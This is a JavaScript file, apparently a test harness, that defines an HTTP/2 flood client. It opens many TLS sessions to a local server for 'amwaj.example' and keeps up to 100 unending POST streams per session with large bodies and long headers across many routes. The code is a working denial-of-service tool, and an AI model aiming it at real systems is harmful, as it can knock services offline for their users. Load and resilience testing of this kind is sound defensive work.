// A client that opens as many streams of HTTP/2 as it may, on every route, with bodies that never end.
import { fork } from "node:child_process";
import { connect as connectHttp2 } from "node:http2";
import { constants, setPriority } from "node:os";
import { connect as connectTls } from "node:tls";

export const NAME = "amwaj.example";
/** Nearly as much as a form of the desk may have. */
const FLOOD = Buffer.alloc(63_000, "x");

/** Routes that take a body, and some that do not. */
const ROUTES = [
  ...[
    "/sendMail.php",
    "/desk/join",
    "/desk/sign-in/start",
    "/desk/sign-in/finish",
    "/desk/sign-in/mail",
  ],
  ...[
    "/desk/people/invite",
    "/desk/posts/0123/pictures",
    "/desk/nothing",
    "/desk/sign-in",
    "/_stats",
  ],
  ...["/admin/front/blogs", "/answered/AMW-22222", "/nothing/here", "/", "/blogs"],
];

/** Connections of one address that have as many streams under way as they may, each with a body that never ends. */
class Streams {
  /** @param {number} port @param {number} connections */
  constructor(port, connections) {
    this.port = port;
    this.sent = 0;
    this.begun = 0;
    this.over = false;
    this.sessions = new Set();
    for (let one = 0; one < connections; one += 1) this.open();
  }

  open() {
    if (this.over) return;
    const where = {
      host: "127.0.0.1",
      port: this.port,
      localAddress: "127.66.0.1",
    };
    const tls = {
      ...where,
      rejectUnauthorized: false,
      servername: NAME,
      ALPNProtocols: ["h2"],
    };
    const session = connectHttp2(`https://${NAME}`, {
      createConnection: () => connectTls(tls),
    });
    this.sessions.add(session);
    session.on("error", () => undefined);
    session.on("close", () => {
      this.sessions.delete(session);
      setTimeout(() => this.open(), 20);
    });
    session.on("connect", () => {
      for (let one = 0; one < 100; one += 1) this.begin(session);
    });
  }

  /** @param {import('node:http2').ClientHttp2Session} session */
  begin(session) {
    if (this.over || session.destroyed || session.closed) return;
    const path = ROUTES[this.begun++ % ROUTES.length];
    // As from the site's own page, and with long headers.
    const headers = {
      origin: `https://${NAME}`,
      "sec-fetch-site": "same-origin",
      "x-more": "y".repeat(2000),
    };
    const stream = session.request({
      ":method": "POST",
      ":path": path,
      ...headers,
    });
    stream.on("error", () => undefined).resume();
    stream.on("close", () => setTimeout(() => this.begin(session), 5));
    stream.write(FLOOD, () => {
      this.sent += FLOOD.length;
    });
  }

  end() {
    this.over = true;
    for (const session of this.sessions) session.destroy();
    return { begun: this.begun, sent: this.sent };
  }
}

/** Such a client in a process of its own with the lowest priority: a real one has a machine of its own. */
export class Http2Attack {
  /** @param {number} port @param {number} connections */
  constructor(port, connections) {
    this.process = fork(import.meta.filename, [String(port), String(connections)]);
    setPriority(this.process.pid ?? 0, constants.priority.PRIORITY_LOW);
  }

  /** @returns {Promise<{begun: number, sent: number}>} how many streams, and bytes */
  async end() {
    const told = new Promise((done) => this.process.once("message", done));
    this.process.send("end");
    const counts = await told;
    this.process.kill("SIGKILL");
    return counts;
  }
}

if (process.argv[1] === import.meta.filename) {
  const streams = new Streams(Number(process.argv[2]), Number(process.argv[3]));
  process.once("message", () => process.send?.(streams.end()));
}
